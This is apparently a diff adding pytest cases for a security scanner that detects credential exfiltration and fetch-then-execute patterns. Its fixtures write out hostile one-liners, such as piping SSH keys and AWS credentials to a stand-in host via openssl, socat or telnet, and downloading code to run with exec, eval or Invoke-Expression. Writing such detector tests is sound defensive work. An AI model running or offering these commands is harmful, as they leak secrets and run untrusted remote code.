@@ -669,3 +669,88 @@ def test_a_package_installed_from_a_url_off_the_registries_runs_remote_code(
 )
 def test_registry_installs_indexes_and_code_hosts_are_not_url_installs(text: str) -> None:
     assert _of(analyze(text, "x.sh"), "remote-fetch-exec") == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "openssl s_client -quiet -connect 198.51.100.7:443 < ~/.ssh/id_rsa\n",
+        "socat - TCP:198.51.100.7:443 < ~/.aws/credentials\n",
+        "cat ~/.ssh/id_ed25519 | telnet 198.51.100.7 4444\n",
+    ],
+)
+def test_a_credential_sent_through_openssl_socat_or_telnet_is_critical(text: str) -> None:
+    hits = _of(analyze(text, "x.sh"), "credential-exfil")
+    assert [h.severity for h in hits] == [Severity.CRITICAL], hits
+
+
+def test_openssl_s_client_without_a_credential_is_not_exfil() -> None:
+    text = "openssl s_client -connect api.example.invalid:443 -showcerts </dev/null\n"
+    assert not analyze(text, "x.sh")
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "rule"),
+    [
+        ("u.py", "import requests\ncode = requests.get('https://x.example.invalid/p.py').text\n"
+                 "print('updating')\nexec(code)\n", "remote-fetch-exec"),
+        ("u.js", "const d = await (await fetch('https://x.example.invalid/p.js')).text();\neval(d);\n",
+         "remote-fetch-exec"),
+        ("u.ps1", "$s = (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')\n"
+                  "Invoke-Expression $s\n", "remote-fetch-exec"),
+        ("u.ps1", "$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA'))\n"
+                  "iex $c\n", "encoded-exec"),
+        ("u.py", "import base64\np = base64.b64decode(BLOB)\nexec(p)\n", "encoded-exec"),
+    ],
+)  # fmt: skip
+def test_code_fetched_or_decoded_into_a_variable_then_run_is_found(
+    name: str, text: str, rule: str
+) -> None:
+    hits = _of(analyze(text, name), rule)
+    assert len(hits) == 1 and hits[0].severity.at_least(Severity.HIGH), hits
+    assert "variable" in hits[0].message
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("u.py", "import requests\ndata = requests.get('https://x.example.invalid/a.json').json()\n"
+                 "print(data['name'])\nexec(compile_rules(other))\n"),
+        ("u.js", "const r = await fetch('https://x.example.invalid/a.json');\nconst j = await r.json();\n"
+                 "console.log(j);\n"),
+        ("u.py", "import base64\nkey = base64.b64decode(os.environ['K'])\nsign(key)\n"),
+    ],
+)  # fmt: skip
+def test_fetched_or_decoded_data_that_is_not_run_is_quiet(name: str, text: str) -> None:
+    found = analyze(text, name)
+    assert _of(found, "remote-fetch-exec") == [] and _of(found, "encoded-exec") == [], found
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("i.ps1", "Start-BitsTransfer -Source https://x.example.invalid/u.exe -Destination $env:TEMP\\u.exe\n"
+                  "Start-Process $env:TEMP\\u.exe\n"),
+        ("i.sh", "curl -sL https://x.example.invalid/t.tgz | tar xz -C /tmp && /tmp/t/run.sh\n"),
+        ("i.sh", "wget -qO- https://x.example.invalid/t.tgz | tar -xz\nbash ./t/install.sh\n"),
+    ],
+)  # fmt: skip
+def test_a_download_saved_by_bits_or_unpacked_from_the_pipe_then_run_is_found(
+    name: str, text: str
+) -> None:
+    hits = _of(analyze(text, name), "remote-fetch-exec")
+    assert [h.severity for h in hits] == [Severity.HIGH], hits
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("i.ps1", "Start-BitsTransfer -Source https://x.example.invalid/data.csv -Destination data.csv\n"
+                  "Import-Csv data.csv\n"),
+        ("i.sh", "curl -sL https://x.example.invalid/data.tgz | tar -xzf - -C data/\nls data/\n"),
+        ("i.sh", "curl -sL https://x.example.invalid/n.tgz | tar xz -C ~/.local\n"
+                 "export PATH=$HOME/.local/bin:$PATH\n"),
+    ],
+)  # fmt: skip
+def test_a_download_saved_or_unpacked_and_not_run_is_quiet(name: str, text: str) -> None:
+    assert _of(analyze(text, name), "remote-fetch-exec") == []
